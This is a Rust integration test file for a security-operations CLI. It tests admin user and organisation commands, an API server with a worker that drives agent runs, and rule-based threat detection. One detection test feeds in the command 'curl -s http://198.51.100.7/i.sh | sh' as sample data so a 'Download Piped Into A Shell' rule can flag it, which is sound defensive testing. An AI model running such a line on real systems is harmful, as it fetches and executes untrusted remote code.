//! The `secops` command: admin subcommands on a fresh data directory, and errors people can act on.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

use std::io::Write;
use std::process::{Command, Stdio};

fn secops(dir: &std::path::Path, args: &[&str], stdin: &str) -> (bool, String, String) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_secops"))
        .args(args)
        .env_clear()
        .env("SECOPS_DATA_DIR", dir)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(stdin.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    (
        out.status.success(),
        String::from_utf8(out.stdout).unwrap(),
        String::from_utf8(out.stderr).unwrap(),
    )
}

#[test]
fn admin_creates_users_and_organisations_and_resets_passwords() {
    let dir = std::env::temp_dir().join(format!("secops-cli-{}", uuid::Uuid::now_v7().simple()));
    let (ok, out, err) = secops(
        &dir,
        &[
            "admin",
            "create-user",
            "--email",
            "ana@example.com",
            "--name",
            "Ana",
        ],
        "correct horse battery\n",
    );
    assert!(ok, "{err}");
    assert!(out.contains("created user ana@example.com"));
    let (ok, _, err) = secops(
        &dir,
        &["admin", "create-user", "--email", "ana@example.com"],
        "correct horse battery\n",
    );
    assert!(!ok && err.contains("already exists"), "{err}");
    let (ok, _, err) = secops(
        &dir,
        &["admin", "create-user", "--email", "bob@example.com"],
        "short\n",
    );
    assert!(!ok && err.contains("at least 12"), "{err}");
    let (ok, out, err) = secops(
        &dir,
        &[
            "admin",
            "create-org",
            "--name",
            "Blue Team",
            "--owner-email",
            "ana@example.com",
        ],
        "",
    );
    assert!(ok, "{err}");
    assert!(out.contains("created organisation Blue Team"));
    let (ok, _, err) = secops(
        &dir,
        &[
            "admin",
            "create-org",
            "--name",
            "X",
            "--owner-email",
            "nobody@example.com",
        ],
        "",
    );
    assert!(!ok && err.contains("no user"), "{err}");
    let (ok, out, err) = secops(
        &dir,
        &["admin", "reset-password", "--email", "ana@example.com"],
        "another long password\n",
    );
    assert!(ok, "{err}");
    assert!(out.contains("password of ana@example.com changed"));
    let (ok, out, _) = secops(&dir, &["openapi"], "");
    assert!(ok && out.contains("\"openapi\""));
    std::fs::remove_dir_all(dir).unwrap();
}

/// Stops a child process the way a container runtime does, and says whether it exited cleanly.
fn terminate(child: &mut std::process::Child) -> bool {
    let sent = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(sent.success());
    child.wait().unwrap().success()
}

fn spawn(dir: &std::path::Path, listen: &str, args: &[&str]) -> std::process::Child {
    Command::new(env!("CARGO_BIN_EXE_secops"))
        .args(args)
        .env_clear()
        .env("SECOPS_DATA_DIR", dir)
        .env("SECOPS_LISTEN", listen)
        .env("SECOPS_LLM_PROVIDER", "demo")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

/// A JSON call: POST with a body, GET without.
async fn call(
    http: &reqwest::Client,
    api: &str,
    path: &str,
    token: Option<&str>,
    body: Option<serde_json::Value>,
) -> serde_json::Value {
    let mut req = match body {
        Some(b) => http
            .post(format!("{api}{path}"))
            .header("content-type", "application/json")
            .body(b.to_string()),
        None => http.get(format!("{api}{path}")),
    };
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    let bytes = req.send().await.unwrap().bytes().await.unwrap();
    serde_json::from_slice(&bytes).unwrap()
}

/// `serve --no-worker` only queues runs; a separate `secops worker` process drives them; both stop cleanly on
/// SIGTERM.
#[tokio::test]
async fn an_api_process_queues_runs_and_a_worker_process_drives_them() {
    use serde_json::{Value, json};
    let dir = std::env::temp_dir().join(format!("secops-cli-{}", uuid::Uuid::now_v7().simple()));
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let listen = format!("127.0.0.1:{port}");
    let api = format!("http://{listen}");
    let mut server = spawn(&dir, &listen, &["serve", "--no-worker"]);
    let http = reqwest::Client::new();
    let mut up = false;
    for _ in 0..200 {
        if http
            .get(format!("{api}/readyz"))
            .send()
            .await
            .is_ok_and(|r| r.status().is_success())
        {
            up = true;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert!(up, "the API came up");
    // Started after the API, which migrated the database.
    let mut worker = spawn(&dir, "127.0.0.1:0", &["worker"]);

    let session = call(&http, &api, "/v1/auth/register", None, Some(json!({"email": "ana@example.com", "password": "correct horse battery", "organization_name": "Blue Team"}))).await;
    let token = session["access_token"].as_str().unwrap().to_owned();
    let agent = call(
        &http,
        &api,
        "/v1/agents",
        Some(&token),
        Some(json!({"name": "triage", "system_prompt": "Triage."})),
    )
    .await;
    let chat = call(
        &http,
        &api,
        "/v1/chats",
        Some(&token),
        Some(json!({"agent_id": agent["id"]})),
    )
    .await;
    let path = format!("/v1/chats/{}/messages", chat["id"].as_str().unwrap());
    let sent = call(
        &http,
        &api,
        &path,
        Some(&token),
        Some(json!({"text": "Anything on ws-042?"})),
    )
    .await;
    let run = sent["run_id"].as_str().unwrap().to_owned();
    let mut finished = Value::Null;
    for _ in 0..200 {
        let r = call(&http, &api, &format!("/v1/runs/{run}"), Some(&token), None).await;
        if r["status"] == "finished" {
            finished = r;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert!(
        finished["output"]["text"]
            .as_str()
            .is_some_and(|t| t.starts_with("[demo model]")),
        "the worker process drove the run: {finished}"
    );

    assert!(terminate(&mut worker), "the worker stops cleanly on SIGTERM");
    assert!(terminate(&mut server), "the server stops cleanly on SIGTERM");
    let mut said = String::new();
    std::io::Read::read_to_string(&mut worker.stdout.take().unwrap(), &mut said).unwrap();
    assert!(said.contains("driving queued runs"), "{said}");
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn detect_lint_and_coverage_run_on_rule_files() {
    let dir = std::env::temp_dir().join(format!("secops-cli-{}", uuid::Uuid::now_v7().simple()));
    let fixtures = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../secops-detect/tests/fixtures");
    let path = |p: &str| fixtures.join(p).display().to_string();

    let (ok, out, err) = secops(
        &dir,
        &[
            "detect",
            "--rules",
            &path("rules"),
            "--events",
            &path("events/windows.json"),
        ],
        "",
    );
    assert!(ok, "{err}");
    let lines: Vec<serde_json::Value> = out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let whoami = &lines[0];
    assert_eq!(whoami["title"], "Whoami Privilege Listing");
    assert_eq!(whoami["authors"][0], "Secops Fixture Author");
    assert_eq!(whoami["techniques"][0], "T1033");
    assert_eq!(whoami["event"]["Image"], "C:\\Windows\\System32\\whoami.exe");
    assert_eq!(lines.last().unwrap()["summary"]["detections"], 6);

    // Standard input, every status, routing off.
    let events = std::fs::read_to_string(fixtures.join("events/windows.json")).unwrap();
    let (ok, out, err) = secops(
        &dir,
        &[
            "detect",
            "--rules",
            &path("rules"),
            "--events",
            "-",
            "--status",
            "all",
            "--routing",
            "off",
        ],
        &events,
    );
    assert!(ok, "{err}");
    assert!(out.contains("Certutil Decoding A File"));
    // A plain record says nothing about its log source: `--logsource` does.
    let plain = r#"{"CommandLine": "curl -s http://198.51.100.7/i.sh | sh"}"#;
    let (ok, out, err) = secops(
        &dir,
        &["detect", "--rules", &path("rules"), "--events", "-"],
        plain,
    );
    assert!(ok, "{err}");
    assert!(!out.contains("Download Piped Into A Shell"));
    let (ok, out, err) = secops(
        &dir,
        &[
            "detect",
            "--rules",
            &path("rules"),
            "--events",
            "-",
            "--logsource",
            "product=linux,category=process_creation",
        ],
        plain,
    );
    assert!(ok, "{err}");
    assert!(out.contains("Download Piped Into A Shell"), "{out}");
    let (ok, _, err) = secops(
        &dir,
        &[
            "detect",
            "--rules",
            &path("rules"),
            "--events",
            "-",
            "--routing",
            "x",
        ],
        "",
    );
    assert!(!ok && err.contains("unknown routing"), "{err}");

    let (ok, out, _) = secops(&dir, &["rules", "lint", &path("broken")], "");
    assert!(!ok);
    assert!(out.contains("bad_regex.yml:10:1: error[compile]"), "{out}");
    let (ok, out, err) = secops(&dir, &["rules", "lint", &path("rules")], "");
    assert!(ok, "{out}{err}");

    let (ok, out, err) = secops(&dir, &["coverage", "--rules", &path("rules"), "--navigator"], "");
    assert!(ok, "{err}");
    let layer: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(layer["domain"], "enterprise-attack");
    assert!(layer["versions"]["layer"].as_str().unwrap().starts_with("4."));
}
